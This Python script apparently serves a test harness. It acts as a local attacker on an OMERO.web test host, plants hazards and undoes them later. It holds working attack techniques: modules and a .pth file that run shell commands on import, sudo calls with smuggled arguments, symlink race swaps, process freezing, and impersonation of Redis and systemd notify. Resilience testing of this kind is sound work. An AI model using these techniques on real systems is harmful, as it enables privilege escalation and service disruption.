"""Runs on a test host as an attacker: leaves what is asked for, as far as its user may.

    plant.py < PLAN > UNDO     as the attacker; PLAN is a JSON list of [kind, place, value]
    plant.py undo < UNDO       as root: all of that is gone, as after an administrator

The standard library alone: test hosts have Debian's Python.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator

ASIDE = ".aside-"
REDIS = "/var/lib/omero-web-redis/redis.sock"
MODULES = ("json", "django", "gunicorn", "omero", "omeroweb_ops", "sitecustomize", "tabulate")
SUDO = (
    "omero-web-maintenance status V",
    "omero-web-maintenance on --message V --dry-run",
    "omero-web-maintenance on --until V",
    "/opt/omero/web/bin/release rollback aV",
    "/opt/omero/web/bin/release rollback a;V V",
    "/opt/omero/web/bin/service status",
    "/opt/omero/web/bin/deploy-lock free",
)


def link(place: str, value: str) -> None:
    os.symlink(value, place)


def fifo(place: str, _value: str) -> None:
    os.mkfifo(place, 0o666)


def unix_socket(place: str, _value: str) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(place)


def directory(place: str, value: str) -> None:
    os.makedirs(os.path.join(place, value.replace("/", "_")[:80]))


def huge(place: str, _value: str) -> None:
    with open(place, "wb") as file:
        file.truncate(1 << 40)


def content(place: str, value: str) -> None:
    with open(place, "w", encoding="utf-8") as file:
        file.write(value)
    os.chmod(place, 0o777)


def hard_link(place: str, value: str) -> None:
    os.link(value, place)


def mode(place: str, value: str) -> None:
    os.chmod(place, (0, 0o777, 0o7777, 0o555)[len(value) % 4])


def inside(place: str, value: str) -> None:
    """A file of an odd name in a directory."""
    name = value.replace("/", "_").encode()[:200]
    with open(os.path.join(os.fsencode(place), name), "w", encoding="utf-8") as file:
        file.write(value)


def modules(place: str, value: str) -> None:
    """What Python imports, or executes, where a directory is on its path."""
    for name in (*(f"{each}.py" for each in MODULES), "planted.pth"):
        with open(os.path.join(place, name), "w", encoding="utf-8") as file:
            file.write(f"import subprocess; subprocess.run(['sh', {value!r}])\n")


def sudo(_place: str, value: str) -> None:
    """What the service's user may run as root, with limits and arguments of its own choice."""
    for command in SUDO:
        words = [word.replace("V", value) for word in command.split(" ")]
        with contextlib.suppress(OSError, ValueError, subprocess.TimeoutExpired):
            subprocess.run(
                ["sh", "-c", 'umask 777; ulimit -f 0; exec sudo -n "$@"', "sh", *words],
                stdin=subprocess.DEVNULL,
                capture_output=True,
                check=False,
                timeout=30,
            )


def stopped(_place: str, _value: str) -> None:
    """The service's processes stand still."""
    for pid in gunicorns():
        os.kill(pid, signal.SIGSTOP)


def lock(place: str, _value: str) -> None:
    fcntl.flock(os.open(place, os.O_RDONLY | os.O_NONBLOCK), fcntl.LOCK_EX)


def swap(place: str, value: str) -> None:
    """A race: the place is what it was, and a link, in turns."""
    aside = f"{place}{ASIDE}swap"
    while True:
        os.rename(place, aside)
        os.symlink(value, place)
        os.unlink(place)
        os.rename(aside, place)


def command_line(_place: str, value: str) -> None:
    os.execv("/bin/sleep", ["sleep", "3600", value])


def listener(_place: str, value: str) -> None:
    """On ports that the site may want, where they are free."""
    for port in (4080, 6379, 4064, 443):
        with contextlib.suppress(OSError):
            held = socket.create_server(("127.0.0.1", port))
            os.set_inheritable(held.detach(), True)
    command_line("", value)


def notification(_place: str, _value: str) -> None:
    """From a process of the service: more time for whatever systemd waits for."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.connect("/run/systemd/notify")
        while True:
            sender.send(b"EXTEND_TIMEOUT_USEC=3600000000\nSTATUS=\x1b]0;owned\x07")
            time.sleep(0.2)


def successor(_place: str, value: str) -> None:
    """A process that says of itself that it takes over from the service's master."""
    variables = {"GUNICORN_PID": str(min(gunicorns(), default=1))}
    os.execve("/bin/sleep", ["sleep", "3600", value], variables)


def answers(_place: str, value: str) -> None:
    """Another process takes Redis' place."""
    os.rename(REDIS, f"{REDIS}{ASIDE}0")
    server = socket.socket(socket.AF_UNIX)
    server.bind(REDIS)
    os.chmod(REDIS, 0o660)
    server.listen()
    text = f"used_memory:{value}\r\nmaxmemory:{value}\r\n".encode()
    while True:
        connection, _address = server.accept()
        with contextlib.suppress(OSError), connection:
            while connection.recv(65536):
                connection.sendall(b"$%d\r\n%b\r\n" % (len(text), text))


AT_ONCE = {each.__name__: each for each in (mode, inside, modules, sudo, stopped)}
# What is there already is moved aside.
IN_PLACE = {
    each.__name__: each for each in (link, fifo, unix_socket, directory, huge, content, hard_link)
}
IN_BACKGROUND = {
    each.__name__: each
    for each in (lock, swap, command_line, listener, notification, successor, answers)
}


def gunicorns() -> Iterator[int]:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            if b"omeroweb.wsgi" in file.read():
                yield int(pid)


def background(act: Callable[[str, str], None], place: str, value: str) -> int:
    """A process that outlives this one and the signals that ask for an end; its process id."""
    pid = os.fork()
    if pid:
        return pid
    try:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(null, descriptor)
        for each in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(each, signal.SIG_IGN)
        act(place, value)
        time.sleep(3600)
    finally:
        os._exit(0)


def put(act: Callable[[str, str], None], place: str, value: str) -> None:
    """Instead of what is there, which is moved aside."""
    aside = f"{place}{ASIDE}{time.monotonic_ns()}"
    there = os.path.lexists(place)
    if there:
        os.rename(place, aside)
    try:
        act(place, value)
    except (OSError, ValueError):
        if there:
            os.rename(aside, place)
        raise


def plant() -> None:
    done: list[tuple[str, str, int]] = []
    os.umask(0)
    for name, place, value in json.load(sys.stdin):
        pid = 0
        try:
            if name in IN_BACKGROUND:
                pid = background(IN_BACKGROUND[name], place, value)
            elif name in AT_ONCE:
                AT_ONCE[name](place, value)
            else:
                put(IN_PLACE[name], place, value)
        except (OSError, ValueError) as refusal:
            print(f"{name} {place!r}: {refusal}", file=sys.stderr)
            continue
        done.append((name, REDIS if name == "answers" else place, pid))
    time.sleep(0.2)  # of the background
    json.dump(done, sys.stdout)


def undo() -> None:
    done = json.load(sys.stdin)
    for _name, _place, pid in done:
        if pid:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
    for pid in gunicorns():
        os.kill(pid, signal.SIGCONT)
    for name, place, _pid in reversed(done):
        folder, base = os.path.split(place)
        with contextlib.suppress(OSError):
            asides = [each for each in os.listdir(folder) if each.startswith(base + ASIDE)]
            if asides:
                remove(place)
                os.rename(os.path.join(folder, max(asides)), place)
            elif name in IN_PLACE:
                remove(place)


def remove(place: str) -> None:
    if os.path.isdir(place) and not os.path.islink(place):
        shutil.rmtree(place, ignore_errors=True)
    elif os.path.lexists(place):
        os.unlink(place)


if __name__ == "__main__":
    undo() if sys.argv[1:] == ["undo"] else plant()
